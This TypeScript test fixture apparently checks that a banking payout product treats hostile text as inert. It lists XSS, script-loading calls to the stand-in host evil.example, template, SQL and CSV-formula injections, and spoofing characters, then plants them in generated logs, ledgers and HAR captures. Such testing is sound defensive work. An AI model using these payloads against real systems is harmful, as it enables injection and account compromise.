/** Evidence that would be code if anything in the product took it for markup, a link, a style or a template. */

/** Each sets `window.__pwned`, or asks for `/pwned`, where it is understood. */
export const hostileTexts: readonly string[] = [
  '<script>window.__pwned=1</script>',
  '</script><script>window.__pwned=2</script>',
  '"><script>window.__pwned=3</script>',
  "'><script>window.__pwned=4</script>",
  '</title><script>window.__pwned=5</script>',
  '</textarea><script>window.__pwned=6</script>',
  '</style><script>window.__pwned=7</script>',
  '--><script>window.__pwned=8</script>',
  ']]><script>window.__pwned=9</script>',
  '<ScRiPt src=//evil.example/pwned.js></sCrIpT>',
  '<script src="http://evil.example/pwned.js" async></script>',
  '<script type="module">import("http://evil.example/pwned.js")</script>',
  '<img src=x onerror=window.__pwned=10>',
  '<img src="http://evil.example/pwned.png">',
  '<img srcset="http://evil.example/pwned.png 1x" onload="window.__pwned=11">',
  '"><img src=x onerror="window.__pwned=12">',
  '<image href="x" onerror="window.__pwned=13">',
  '<svg onload=window.__pwned=14>',
  '<svg/onload="window.__pwned=15">',
  '<svg><script>window.__pwned=16</script></svg>',
  '<svg><animate onbegin=window.__pwned=17 attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=18</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>window.__pwned=19</script></svg>#x"/>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__pwned=20&gt;">',
  '<math href="javascript:window.__pwned=21">CLICK</math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=22>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=23>',
  '<iframe srcdoc="<script>parent.__pwned=24</script>"></iframe>',
  '<iframe src="javascript:parent.__pwned=25"></iframe>',
  '<iframe src="http://evil.example/pwned"></iframe>',
  '<object data="javascript:window.__pwned=26"></object>',
  '<embed src="http://evil.example/pwned.swf">',
  '<video src=x onerror=window.__pwned=27>',
  '<video><source onerror="window.__pwned=28"></video>',
  '<audio src=x onerror=window.__pwned=29>',
  '<body onload=window.__pwned=30>',
  '<details open ontoggle=window.__pwned=31>',
  '<input autofocus onfocus=window.__pwned=32>',
  '<select autofocus onfocus=window.__pwned=33>',
  '<marquee onstart=window.__pwned=34>',
  '<a href="javascript:window.__pwned=35">refund portal</a>',
  '<a href="http://evil.example/pwned" target=_blank>statement</a>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/pwned">',
  '<base href="http://evil.example/">',
  '<link rel=stylesheet href="http://evil.example/pwned.css">',
  '<link rel="dns-prefetch" href="//evil.example">',
  '<style>@import "http://evil.example/pwned.css";</style>',
  '<style>*{background:url(http://evil.example/pwned.png)}</style>',
  '<div style="background:url(http://evil.example/pwned.png)">',
  '<template shadowrootmode=open><img src=x onerror=window.__pwned=36></template>',
  'javascript:window.__pwned=37',
  'JaVaScRiPt:window.__pwned=38',
  'java\tscript:window.__pwned=39',
  'data:text/html,<script>window.__pwned=40</script>',
  'vbscript:window.__pwned=41',
  'file:///etc/passwd',
  '[refund](javascript:window.__pwned=42)',
  '![x](http://evil.example/pwned.png)',
  '{{constructor.constructor("window.__pwned=43")()}}',
  '${window.__pwned=44}',
  '<%= window.__pwned=45 %>',
  '#{window.__pwned=46}',
  '{"__proto__":{"__pwned":47}}',
  "');window.__pwned=48;('",
  '";window.__pwned=49;"',
  '&lt;script&gt;window.__pwned=50&lt;/script&gt;',
  '&#60;img src=x onerror=window.__pwned=51&#62;',
  '\u202Egnp.tnemyap\u202C',
  '\u2066admin\u2069\u200Bpaid\u00AD',
  '\u001b]8;;http://evil.example/pwned\u0007statement\u001b]8;;\u0007',
  '\u001b[2J\u001b[31mpaid\u001b[0m',
  'аpple.example (homograph)',
  '=HYPERLINK("http://evil.example/pwned","refund")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "Robert'); drop table records;--",
  '$(command:workbench.action.openUrl?["http://evil.example/pwned"])',
];

const day = Date.UTC(2026, 2, 3);

/** A gateway's log whose every place that may hold text holds one of them. */
export function hostileLog(): string {
  return hostileTexts
    .map((text, index) =>
      JSON.stringify({
        timestamp: new Date(day + index * 60_000).toISOString(),
        level: text,
        service: text,
        message: text,
        direction: 'outbound',
        method: 'POST',
        url: `https://api.bankrail.example/v1/payouts/${encodeURIComponent(text)}?q=${text.replace(/\s/g, '+')}`,
        status: 422,
        request: {
          headers: { 'content-type': 'application/json', 'x-note': text, [`x-${String(index)}`]: text },
          body: {
            reference: `HOSTILE-${String(index).padStart(3, '0')}`,
            amount: '10.00',
            currency: 'EUR',
            end_to_end_id: text,
            remittance: text,
            [text]: text,
          },
        },
        response: {
          headers: { location: text },
          body: { id: text, status: 'rejected', reason: text, html: text },
        },
      }),
    )
    .map((line) => `${line}\n`)
    .join('');
}

function csvCell(text: string): string {
  return `"${text.replaceAll('"', '""')}"`;
}

/** A ledger export with them as references, memos and users. */
export function hostileLedger(): string {
  const header = 'entry_id,booked_at,user_id,type,status,amount,currency,reference,external_id,memo';
  const rows = hostileTexts.map((text, index) =>
    [
      `le_${String(index)}`,
      new Date(day + index * 60_000).toISOString(),
      csvCell(text),
      'WITHDRAWAL',
      'DEBITED',
      '-10.00',
      'EUR',
      csvCell(index % 2 === 0 ? text : `HOSTILE-${String(index).padStart(3, '0')}`),
      csvCell(text),
      csvCell(text),
    ].join(','),
  );
  return [header, ...rows].join('\n');
}

/** A capture of a web console that answered with them. */
export function hostileCapture(): string {
  const entries = hostileTexts.map((text, index) => ({
    startedDateTime: new Date(day + index * 60_000).toISOString(),
    time: 12,
    request: {
      method: 'GET',
      url: `https://console.bankrail.example/view?case=${encodeURIComponent(text)}`,
      httpVersion: 'HTTP/1.1',
      headers: [{ name: 'Referer', value: text }],
      queryString: [{ name: text, value: text }],
      cookies: [],
      headersSize: -1,
      bodySize: 0,
    },
    response: {
      status: 200,
      statusText: text,
      httpVersion: 'HTTP/1.1',
      headers: [{ name: 'X-Note', value: text }],
      cookies: [],
      content: { size: text.length, mimeType: index % 2 === 0 ? 'text/html' : 'image/svg+xml', text },
      redirectURL: text,
      headersSize: -1,
      bodySize: text.length,
    },
    cache: {},
    timings: { send: 1, wait: 10, receive: 1 },
    comment: text,
  }));
  return JSON.stringify({
    log: { version: '1.2', creator: { name: '<b onclick=window.__pwned=1>', version: '1' }, entries },
  });
}
